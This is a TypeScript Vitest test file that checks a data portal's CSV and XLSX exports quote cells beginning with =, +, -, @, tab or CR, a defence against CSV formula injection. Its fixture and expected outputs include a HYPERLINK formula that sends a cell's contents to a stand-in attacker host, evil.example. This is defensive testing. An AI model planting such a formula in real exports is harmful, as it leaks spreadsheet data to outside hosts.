// CSV injection (CWE-1236) through the export routes: text cells starting with = + - @ tab or CR
// get a leading ' in CSV (engine and row paths) and XLSX, numbers stay numbers, neutralise_formulas=false.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { openPortal, closePortal } from '../../src/server/portal.ts';
import { buildApp } from '../../src/server/app.ts';
import { importDataset } from '../../src/ingest/index.ts';
import type { AppContext } from '../../src/server/context.ts';
import { neutraliseFormula } from '../../src/server/respond/text.ts';

const EXPORTS = '/api/explore/v2.1/catalog/datasets/contacts/exports';
let dir: string;
let ctx: AppContext;
let app: FastifyInstance;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'agora-formulas-'));
  ctx = await openPortal({ inMemory: true, baseUrl: 'http://portal.test' });
  const file = join(dir, 'contacts.csv');
  writeFileSync(file, [
    'k,name,n',
    '1,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",-3',
    '2,+33 1 23,4',
    '3,@SUM(A1:A2),5',
    '4,-2+3,6',
    '5,Plain name,-7',
  ].join('\n'));
  await importDataset(ctx.catalog, { source: file, datasetId: 'contacts', mode: 'create' });
  app = await buildApp(ctx, { web: false });
});
afterAll(async () => { await app?.close(); if (ctx) await closePortal(ctx); rmSync(dir, { recursive: true, force: true }); });

async function csvLines(query: string): Promise<string[]> {
  const res = await app.inject(`${EXPORTS}/csv?with_bom=false&${query}`);
  expect(res.statusCode, res.body).toBe(200);
  return res.body.split('\r\n').filter(Boolean);
}

describe('formula neutralisation', () => {
  it('knows the text that starts a formula', () => {
    for (const t of ['=1', '+1', '-1', '@x', '\tx', '\rx']) expect(neutraliseFormula(t)).toBe(`'${t}`);
    for (const t of ['', 'a=1', ' =1', "'=1", '1-2']) expect(neutraliseFormula(t)).toBe(t);
  });

  // In stored order the engine writes the lines; order_by takes the row path.
  it.each(['', 'order_by=k'])('prefixes text cells with a quote, never numbers (%s)', async (q) => {
    const lines = await csvLines(q);
    expect(lines[0]).toBe('k;name;n');
    expect(lines.slice(1)).toEqual([
      '1;"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")";-3',
      "2;'+33 1 23;4",
      "3;'@SUM(A1:A2);5",
      "4;'-2+3;6",
      '5;Plain name;-7',
    ]);
    const quoted = await csvLines(`${q}&quote_all=true`);
    expect(quoted[2]).toBe('2;"\'+33 1 23";4');
  });

  it.each(['', 'order_by=k'])('keeps the text as stored with neutralise_formulas=false (%s)', async (q) => {
    const lines = await csvLines(`${q}&neutralise_formulas=false`);
    expect(lines[1]).toBe('1;"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")";-3');
    expect(lines[2]).toBe('2;+33 1 23;4');
    expect(lines[4]).toBe('4;-2+3;6');
  });

  it('does the same in XLSX', async () => {
    const cells = async (q: string) => {
      const res = await app.inject(`${EXPORTS}/xlsx?order_by=k${q}`);
      expect(res.statusCode).toBe(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
      const sheet = wb.worksheets[0]!;
      return [2, 3, 4, 5, 6].map((r) => [sheet.getRow(r).getCell(2).value, sheet.getRow(r).getCell(3).value]);
    };
    expect(await cells('')).toEqual([
      ['\'=HYPERLINK("http://evil.example/?x="&A1,"Click")', -3], ["'+33 1 23", 4], ["'@SUM(A1:A2)", 5], ["'-2+3", 6], ['Plain name', -7],
    ]);
    expect((await cells('&neutralise_formulas=false'))[0]).toEqual(['=HYPERLINK("http://evil.example/?x="&A1,"Click")', -3]);
  });

  it('refuses a value that is not a boolean', async () => {
    const res = await app.inject(`${EXPORTS}/csv?neutralise_formulas=maybe`);
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toContain('neutralise_formulas');
  });
});
